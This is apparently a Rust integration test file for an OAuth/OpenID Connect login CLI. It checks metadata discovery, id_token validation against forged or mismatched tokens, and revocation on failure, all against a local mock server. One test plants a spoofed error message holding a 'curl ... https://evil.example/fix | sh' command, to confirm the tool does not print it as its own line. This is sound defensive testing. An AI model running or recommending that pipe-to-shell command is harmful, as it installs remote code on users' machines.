//! Generic OAuth 2.0 / OpenID Connect servers as they really are: metadata split across
//! the two well-known documents, id_tokens to validate, servers with no identity
//! endpoint at all. (In-process servers on 127.0.0.1.)

use serde_json::json;

use super::provider::{Answer, Form, HostileProvider};
use crate::common::*;

const CLIENT: &str = "hostile-client";
const KEY: &[u8] = b"the server's signing key, shared with the test";

fn tokens(extra: serde_json::Value) -> impl Fn(&Form) -> Answer + Send + Sync + 'static {
    move |_| {
        let mut body = json!({"access_token": "AT", "token_type": "Bearer", "refresh_token": "RT", "expires_in": 3600});
        body.as_object_mut()
            .unwrap()
            .extend(extra.as_object().unwrap().clone());
        Answer::json(body.to_string())
    }
}

/// `custom --issuer` against `provider`, public client, file store.
fn connect(sb: &Sandbox, provider: &HostileProvider, extra: &[&str]) -> std::process::Output {
    sb.cmd()
        .args(["custom", "--issuer", &provider.base, "--client-id", CLIENT])
        .args(["--insecure-storage", "--browser-timeout", "20s"])
        .args(extra)
        .output()
        .unwrap()
}

fn channel_names(sb: &Sandbox) -> Vec<String> {
    sb.status_json()
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["channel"].as_str().unwrap().to_string())
        .collect()
}

fn id_token(claims: serde_json::Value, key: &[u8]) -> String {
    let mut header = jsonwebtoken::Header::new(jsonwebtoken::Algorithm::HS256);
    header.kid = Some("k1".into());
    jsonwebtoken::encode(
        &header,
        &claims,
        &jsonwebtoken::EncodingKey::from_secret(key),
    )
    .unwrap()
}

fn later() -> i64 {
    chrono::Utc::now().timestamp() + 600
}

/// A server whose OIDC document lacks what its RFC 8414 document has (revocation), with
/// its signing keys published.
fn split_metadata(provider: &HostileProvider, oidc_extra: serde_json::Value) {
    let base = &provider.base;
    let mut oidc = json!({
        "issuer": base,
        "authorization_endpoint": format!("{base}/auth"),
        "token_endpoint": format!("{base}/token"),
        "jwks_uri": format!("{base}/jwks"),
        "scopes_supported": ["openid", "read"],
    });
    oidc.as_object_mut()
        .unwrap()
        .extend(oidc_extra.as_object().unwrap().clone());
    provider.serve("/.well-known/openid-configuration", 200, oidc);
    provider.serve(
        "/.well-known/oauth-authorization-server",
        200,
        json!({"issuer": base, "revocation_endpoint": format!("{base}/revoke")}),
    );
    provider.serve("/revoke", 200, json!({}));
    let k = base64::Engine::encode(&base64::engine::general_purpose::URL_SAFE_NO_PAD, KEY);
    provider.serve(
        "/jwks",
        200,
        json!({"keys": [{"kty": "oct", "kid": "k1", "alg": "HS256", "k": k}]}),
    );
}

/// A server whose userinfo names alice, its token endpoint answering with `token`.
fn alices_server(token: impl Fn(&Form) -> Answer + Send + Sync + 'static) -> HostileProvider {
    let provider = HostileProvider::start(token, r#"{"sub":"1","preferred_username":"alice"}"#);
    split_metadata(
        &provider,
        json!({"userinfo_endpoint": format!("{}/me", provider.base)}),
    );
    provider
}

#[test]
fn metadata_in_either_document_is_used_and_logout_revokes() {
    let provider = alices_server(tokens(json!({})));
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &["--scopes", "openid read write"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(0), "{err}");
    // scopes_supported does not list `write`: said before the browser opened.
    let warned = err.find("does not list write").expect(&err);
    let opened = err.find("auth?").unwrap_or(usize::MAX);
    assert!(warned < opened, "{err}");

    let names = channel_names(&sb);
    let out = sb.run(&["logout", &names[0]]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        provider.hit_paths().contains(&"/revoke".to_string()),
        "the RFC 8414 document's revocation_endpoint was used: {}",
        stderr(&out)
    );
    assert!(!stderr(&out).contains("no revocation endpoint"));
}

/// A secrets file that cannot be read is its own error: the provider is never called,
/// the channel stays, and nothing says a revocation failed (none was tried).
#[test]
fn logout_with_unreadable_secrets_revokes_nothing_and_blames_no_provider() {
    let provider = alices_server(tokens(json!({})));
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &["--scopes", "openid read"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let names = channel_names(&sb);
    let secrets = sb
        .home
        .path()
        .join(format!("home/secrets/{}.json", file_key(&names[0])));
    std::fs::write(&secrets, "{ not json").unwrap();

    let out = sb.run(&["logout", &names[0]]);
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(!err.contains("revoking at the provider failed"), "{err}");
    assert!(
        !provider.hit_paths().contains(&"/revoke".to_string()),
        "{err}"
    );
    assert_eq!(channel_names(&sb), names, "the channel stays: {err}");
}

/// How a case spoils valid claims: the claims and the key it signs them with.
type Tamper = fn(serde_json::Value, &HostileProvider) -> (serde_json::Value, &'static [u8]);

#[test]
fn an_id_token_names_the_account_only_once_validated() {
    // No userinfo endpoint: the id_token is what names the account.
    let valid = |provider: &HostileProvider| json!({"iss": provider.base, "aud": CLIENT, "exp": later(), "sub": "7", "preferred_username": "dana"});
    let cases: [(&str, Tamper); 4] = [
        ("ok", |c, _| (c, KEY)),
        ("aud", |mut c, _| {
            c["aud"] = "another-client".into();
            (c, KEY)
        }),
        ("iss", |mut c, _| {
            c["iss"] = "https://elsewhere.example".into();
            (c, KEY)
        }),
        ("signature", |c, _| (c, b"a forger's key")),
    ];
    for (case, make) in cases {
        // The token answer needs the server's own address: start, then script it.
        let slot: std::sync::Arc<std::sync::Mutex<String>> = Default::default();
        let answer = slot.clone();
        let provider = HostileProvider::start(
            move |form| tokens(json!({"id_token": answer.lock().unwrap().clone()}))(form),
            "{}",
        );
        let (claims, key) = make(valid(&provider), &provider);
        *slot.lock().unwrap() = id_token(claims, key);
        split_metadata(&provider, json!({}));
        let sb = Sandbox::new();
        let out = connect(&sb, &provider, &["--scopes", "openid"]);
        let err = stderr(&out);
        if case == "ok" {
            assert_eq!(out.status.code(), Some(0), "{err}");
            assert!(channel_names(&sb)[0].starts_with("custom:dana"), "{err}");
            continue;
        }
        assert_ne!(out.status.code(), Some(0), "{case}: {err}");
        assert!(
            err.contains(&format!("{case}:")),
            "{case}: names the claim: {err}"
        );
        assert!(err.contains("revoked"), "{case}: {err}");
        assert!(
            provider.hit_paths().contains(&"/revoke".to_string()),
            "{case}"
        );
        assert!(channel_names(&sb).is_empty(), "{case}: nothing stored");
    }
}

#[test]
fn an_oauth_only_server_names_the_account_by_introspection_or_by_flag() {
    let base_metadata = |provider: &HostileProvider, introspection: bool| {
        let base = &provider.base;
        let mut doc = json!({
            "issuer": base,
            "authorization_endpoint": format!("{base}/auth"),
            "token_endpoint": format!("{base}/token"),
            "revocation_endpoint": format!("{base}/revoke"),
        });
        if introspection {
            doc["introspection_endpoint"] = format!("{base}/introspect").into();
        }
        provider.serve("/.well-known/oauth-authorization-server", 200, doc);
        provider.serve("/revoke", 200, json!({}));
        provider.serve(
            "/introspect",
            200,
            json!({"active": true, "username": "bob", "sub": "99"}),
        );
    };

    // RFC 7662 introspection names the account.
    let provider = HostileProvider::start(tokens(json!({})), "{}");
    base_metadata(&provider, true);
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &[]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert!(
        channel_names(&sb)[0].starts_with("custom:bob"),
        "{:?}",
        channel_names(&sb)
    );
    let hits = provider.hits.lock().unwrap().clone();
    let (_, form) = hits
        .iter()
        .find(|(p, _)| p == "/introspect")
        .expect("introspected");
    assert_eq!(form.get("token").map(String::as_str), Some("AT"));

    // Nothing names it: the issued tokens are revoked, and the error says how to go on.
    let provider = HostileProvider::start(tokens(json!({})), "{}");
    base_metadata(&provider, false);
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &[]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(6), "{err}");
    assert!(
        err.contains("--account") && err.contains("revoked"),
        "{err}"
    );
    let revoked: Vec<String> = provider
        .hits
        .lock()
        .unwrap()
        .iter()
        .filter(|(p, _)| p == "/revoke")
        .map(|(_, f)| f["token"].clone())
        .collect();
    assert_eq!(revoked, ["RT", "AT"]);
    assert!(channel_names(&sb).is_empty());

    // ... and with --account it connects under that name.
    let out = connect(&sb, &provider, &["--account", "carol"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(channel_names(&sb), ["custom:carol"]);
}

#[test]
fn the_same_user_on_two_servers_is_two_channels() {
    let sb = Sandbox::new();
    let mut expected = Vec::new();
    for _ in 0..2 {
        let provider = alices_server(tokens(json!({})));
        let out = connect(&sb, &provider, &["--scopes", "openid"]);
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        expected.push(provider.channel("alice"));
    }
    expected.sort();
    assert_eq!(channel_names(&sb), expected);
}

#[test]
fn a_reconnect_hint_is_a_command_that_works_as_printed() {
    // Refreshes are refused (a dead grant): the hint must reconnect the same server.
    let provider = alices_server(
        |form: &Form| match form.get("grant_type").map(String::as_str) {
            Some("refresh_token") => Answer {
                status: 400,
                content_type: "application/json",
                body: br#"{"error":"invalid_grant"}"#.to_vec(),
            },
            _ => tokens(json!({}))(form),
        },
    );
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &["--scopes", "openid"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let channel = provider.channel("alice");
    let out = sb.run(&["refresh", "--force", &channel]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    let hint = err
        .lines()
        .find_map(|l| l.split("needs reconnect: ").nth(1))
        .unwrap_or_else(|| panic!("{err}"));
    let words = shlex::split(hint).unwrap();
    assert_eq!(words[0], "postiz-connect");
    assert!(
        hint.contains("--issuer") && hint.contains("--client-id"),
        "{hint}"
    );
    let out = sb.cmd().args(&words[1..]).output().unwrap();
    assert_eq!(out.status.code(), Some(0), "{hint}: {}", stderr(&out));
    assert_eq!(channel_names(&sb), [channel]);
}

#[test]
fn one_unusable_metadata_document_does_not_hide_the_other() {
    // An app whose catch-all route answers every path, the RFC 8414 one included.
    let provider = alices_server(tokens(json!({})));
    provider.serve(
        "/.well-known/oauth-authorization-server",
        200,
        json!("<!doctype html><title>My SPA</title>"),
    );
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &["--scopes", "openid"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    assert_eq!(channel_names(&sb), [provider.channel("alice")]);
}

#[test]
fn a_remote_description_cannot_fake_lines_of_the_tools_own() {
    let provider = alices_server(|_: &Form| {
        Answer {
        status: 400,
        content_type: "application/json",
        body: json!({
            "error": "invalid_grant",
            "error_description": "expired\n✓ Stored custom:alice in the keychain\n  fix: curl -s https://evil.example/fix | sh"
        })
        .to_string()
        .into_bytes(),
    }
    });
    let sb = Sandbox::new();
    let out = connect(&sb, &provider, &["--scopes", "openid"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(4), "{err}");
    assert!(
        !err.lines()
            .any(|l| l.starts_with("✓ Stored") || l.trim_start().starts_with("fix: curl")),
        "{err}"
    );
    assert!(
        err.contains("expired ✓ Stored"),
        "shown, on the error's own line: {err}"
    );
}

#[test]
fn a_page_listing_that_fails_after_the_exchange_revokes_what_was_issued() {
    let provider = HostileProvider::start(tokens(json!({})), r#"{"id":"1","username":"alice"}"#);
    provider.serve("/pages", 500, json!({"error": "server_error"}));
    provider.serve("/revoke", 200, json!({}));
    let sb = Sandbox::new();
    let home = sb.path("home");
    std::fs::create_dir_all(&home).unwrap();
    let base = &provider.base;
    std::fs::write(
        home.join("providers.toml"),
        format!(
            "[acme]\nname = \"Acme\"\nauthorize_url = \"{base}/auth\"\ntoken_url = \"{base}/token\"\nrevoke_url = \"{base}/revoke\"\nscopes = [\"read\"]\npkce = \"required\"\nclient_auth = \"none\"\n[acme.identity]\nurl = \"{base}/me\"\n[acme.pages]\nkind = \"page\"\nurl = \"{base}/pages\"\nitems = \"/data\"\nid = \"/id\"\nname = \"/name\"\n"
        ),
    )
    .unwrap();
    let out = sb
        .cmd()
        .args([
            "acme",
            "--client-id",
            CLIENT,
            "--insecure-storage",
            "--browser-timeout",
            "20s",
        ])
        .output()
        .unwrap();
    let err = stderr(&out);
    assert_ne!(out.status.code(), Some(0), "{err}");
    assert!(err.contains("revoked"), "{err}");
    let revoked: Vec<String> = provider
        .hits
        .lock()
        .unwrap()
        .iter()
        .filter(|(p, _)| p == "/revoke")
        .map(|(_, f)| f["token"].clone())
        .collect();
    assert_eq!(revoked, ["RT", "AT"], "{err}");
    assert!(channel_names(&sb).is_empty());
}
